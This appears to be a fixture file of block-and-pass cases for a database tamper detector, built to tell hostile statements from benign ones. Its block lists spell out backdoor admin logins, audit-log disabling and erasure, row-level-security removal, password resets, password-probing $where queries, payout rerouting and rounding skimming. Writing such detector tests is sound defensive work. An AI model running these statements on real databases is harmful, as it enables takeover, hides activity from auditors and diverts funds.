      "CREATE LOGIN backdoor WITH PASSWORD = 'P@ss'; ALTER SERVER ROLE sysadmin ADD MEMBER backdoor;",
    ],
    "pass": [
      "EXEC sp_addrolemember 'db_datareader', 'reporting';",
      "SELECT IS_SRVROLEMEMBER('sysadmin');",
    ],
  },
  {
    "id": "db.mssql_impersonate_sa",
    "block": ["EXECUTE AS LOGIN = 'sa'; SELECT SYSTEM_USER;"],
    "pass": [
      "EXECUTE AS USER = 'report_reader'; SELECT * FROM fn_my_permissions(NULL, 'DATABASE'); REVERT;",
    ],
  },
  {
    "id": "db.mssql_trustworthy",
    "block": ["ALTER DATABASE appdb SET TRUSTWORTHY ON;"],
    "pass": [
      "SELECT name, is_trustworthy_on FROM sys.databases;",
      "ALTER DATABASE appdb SET TRUSTWORTHY OFF;",
    ],
  },
  {
    "id": "db.mysql_file_priv",
    "block": ["SET GLOBAL local_infile = 1;", "SET PERSIST local_infile = ON;"],
    "pass": ["SHOW VARIABLES LIKE 'secure_file_priv';", "SET GLOBAL local_infile = 0;"],
  },
  {
    "id": "db.audit_off",
    "block": [
      "SET GLOBAL general_log = 0;",
      "ALTER SERVER AUDIT SPECIFICATION srv_spec WITH (STATE = OFF);",
      "EXEC sp_trace_setstatus @traceid = 1, @status = 0;",
      "ALTER ROLE app SET pgaudit.log TO 'none';",
      "ALTER SYSTEM SET audit_trail = NONE SCOPE = SPFILE;",
      "ALTER SYSTEM SET pgaudit.log = 'none';",
      "ALTER SYSTEM SET log_statement = 'none';",
      "ALTER SERVER AUDIT main_audit WITH (STATE = OFF);",
      "SET GLOBAL general_log=OFF;",
      "SET pgaudit.log = 'none';",
      "ALTER DATABASE AUDIT SPECIFICATION dbspec WITH (STATE = OFF);",
      "DROP SERVER AUDIT main_audit;",
      "UNINSTALL PLUGIN audit_log;",
      "SET sql_log_off = 1;",
      "NOAUDIT ALL;",
      'db.adminCommand({"setParameter": 1, "auditAuthorizationSuccess": false})',
    ],
    "pass": [
      "ALTER SYSTEM SET log_min_duration_statement = 500;",
      "ALTER SYSTEM SET pgaudit.log = 'ddl, role';",
      "SET GLOBAL slow_query_log = 'ON';",
    ],
  },
  {
    "id": "db.audit_rows_erased",
    "block": [
      "DELETE FROM sys.aud$;",
      "TRUNCATE TABLE unified_audit_trail;",
      "TRUNCATE TABLE audit_log;",
      "DELETE FROM audit_log;",
      "DELETE FROM audit_events WHERE user_id = 77;",
      "DROP TABLE login_history;",
    ],
    "pass": [
      "DELETE FROM audit_log WHERE logged_at < now() - interval '400 days';",
      "TRUNCATE TABLE staging_orders;",
    ],
  },
  {
    "id": "db.audit_trigger_off",
    "block": [
      "ALTER TABLE accounts DISABLE TRIGGER ALL;",
      "DROP TRIGGER IF EXISTS audit_changes ON payments;",
      "ALTER TABLE payments DISABLE TRIGGER audit_payments_trg;",
      "ALTER TABLE users DISABLE TRIGGER users_audit;",
      "DISABLE TRIGGER trg_audit_orders ON dbo.Orders;",
    ],
    "pass": [
      "ALTER TABLE orders DISABLE TRIGGER orders_updated_at;",
      "ALTER TABLE users ENABLE TRIGGER users_audit;",
    ],
  },
  {
    "id": "db.rls_off",
    "block": [
      "ALTER TABLE accounts DISABLE ROW LEVEL SECURITY;",
      "ALTER TABLE invoices NO FORCE ROW LEVEL SECURITY;",
      "CREATE POLICY allow_all ON invoices FOR ALL USING (true);",
    ],
    "pass": [
      "ALTER TABLE documents ENABLE ROW LEVEL SECURITY;",
      "CREATE POLICY tenant_isolation ON documents USING (tenant_id = current_setting('app.tenant')::int);",
    ],
  },
  {
    "id": "db.service_auth_off",
    "block": [
      '["ACL", "SETUSER", "default", "on", "nopass", "+@all", "~*"]',
      '{"transient": {"xpack.security.audit.enabled": "false"}}',
      "CONFIG SET protected-mode no",
      "ACL SETUSER default on nopass +@all ~*",
      "ACL SETUSER backdoor on nopass +@all ~*",
      'PUT _cluster/settings {"persistent": {"xpack.security.enabled": false}}',
    ],
    "pass": [
      "CONFIG SET protected-mode yes",
      "ACL SETUSER reporter on >s3cret ~report:* +get",
      '{"persistent": {"xpack.security.audit.enabled": true}}',
    ],
  },
  {
    "id": "db.mongo_server_js",
    "block": [
      'db.accounts.find({"$where": "function() { return this.apiKey.charAt(0) == \'a\'; }"})',
      'db.c.find({"$where": "sleep(5000) || true"})',
      'db.users.find({"$where": "function(){ var x = new Date(); while(new Date()-x < 5000){}; return true; }"})',
      'db.users.find({"$where": "this.password.match(/^a/) && sleep(2000)"})',
      'db.items.find({"$where": "return true;"})',
    ],
    "pass": [
      'db.orders.find({"$where": "this.total > this.limit"})',
      '{"$expr": {"$function": {"body": "function(a, b) { return a > b }", "args": ["$x", "$y"], "lang": "js"}}}',
    ],
  },
  {
    "id": "db.admin_account_takeover",
    "block": [
      "ALTER LOGIN sa ENABLE; ALTER LOGIN sa WITH PASSWORD = 'Winter2024!';",
      "UPDATE pg_authid SET rolsuper = true WHERE rolname = 'app';",
      "UPDATE mysql.user SET authentication_string = '' WHERE user = 'root';",
      'PUT /_node/_local/_config/admins/eve "s3cr3t"',
      '{"_id": "org.couchdb.user:eve", "type": "user", "name": "eve", "roles": ["_admin"], "password": "x"}',
      'db.getSiblingDB("admin").createUser({user: "svc2", pwd: "p", roles: [{role: "root", db: "admin"}]})',
      "CALL dbms.security.addRoleToUser('admin', 'mallory')",
      "GRANT ROLE ACCOUNTADMIN TO USER contractor_x;",
      'POST /_security/user/helper {"password": "Passw0rd!", "roles": ["superuser"]}',
      "CREATE USER ops WITH PASSWORD 'x' WITH ALL PRIVILEGES",
    ],
    "pass": [
      "ALTER LOGIN app_reader WITH PASSWORD = 'x';",
      "ALTER LOGIN sa DISABLE;",
      "UPDATE users SET roles = '[\"editor\"]' WHERE id = 7;",
      'db.getSiblingDB("app").createUser({user: "reporter", pwd: "p", roles: [{role: "read", db: "app"}]})',
      "CALL dbms.security.addRoleToUser('reader', 'bob')",
      "GRANT ROLE ANALYST TO USER jane;",
      'POST /_security/user/ci {"password": "x", "roles": ["viewer"]}',
      "CREATE USER reader WITH PASSWORD 'x'",
    ],
  },
  {
    "id": "db.warehouse_grant_outside",
    "block": [
      'GRANT `roles/bigquery.dataViewer` ON SCHEMA crm TO "user:someone.personal@gmail.com";',
      "ALTER ACCOUNT UNSET NETWORK_POLICY;",
    ],
    "pass": ['GRANT `roles/bigquery.dataViewer` ON SCHEMA crm TO "group:analysts@acme.com";'],
  },
  {
    "id": "db.payment_destination_rewritten",
    "block": [
      "CREATE OR REPLACE RULE payouts_route AS ON INSERT TO payouts WHERE NEW.amount > 50000 DO INSTEAD INSERT INTO payouts (employee_id, amount, bank_code, account_no) VALUES (NEW.employee_id, NEW.amount, '014', '4270198356');",
      "CREATE TRIGGER fix_iban BEFORE INSERT ON vendor_payments FOR EACH ROW BEGIN SET NEW.iban = 'DE89370400440532013000'; END;",
    ],
    "pass": [
      "CREATE TRIGGER payouts_audit AFTER INSERT ON payouts FOR EACH ROW EXECUTE FUNCTION log_payout();",
      "CREATE RULE no_delete AS ON DELETE TO payments DO INSTEAD NOTHING;",
    ],
  },
  {
    "id": "db.rounding_residue_skimmed",
    "block": [
      "FOR r IN SELECT id, balance, rate FROM savings LOOP UPDATE savings SET balance = balance + ROUND(r.balance * r.rate, 2) WHERE id = r.id; UPDATE savings SET balance = balance + (r.balance * r.rate - ROUND(r.balance * r.rate, 2)) WHERE account_no = 'DE0071120044'; END LOOP;",
      "UPDATE konten SET saldo = saldo + MOD(zins_betrag * 100, 1) / 100 WHERE konto = 5531200981;",
      "UPDATE wallets SET amount = amount + (fee - FLOOR(fee * 100) / 100) WHERE id = 77120;",
    ],
    "pass": [
      "UPDATE savings SET balance = balance + ROUND(balance * rate, 2) WHERE status = 'ACTIVE';",
      "UPDATE invoices SET total = ROUND(subtotal * 1.19, 2) WHERE id = 88123;",
      "UPDATE ledger SET rounding_diff = raw_amount - ROUND(raw_amount, 2) WHERE batch_id = :batch;",
    ],
  },
];
runCases("tamper", TAMPER);
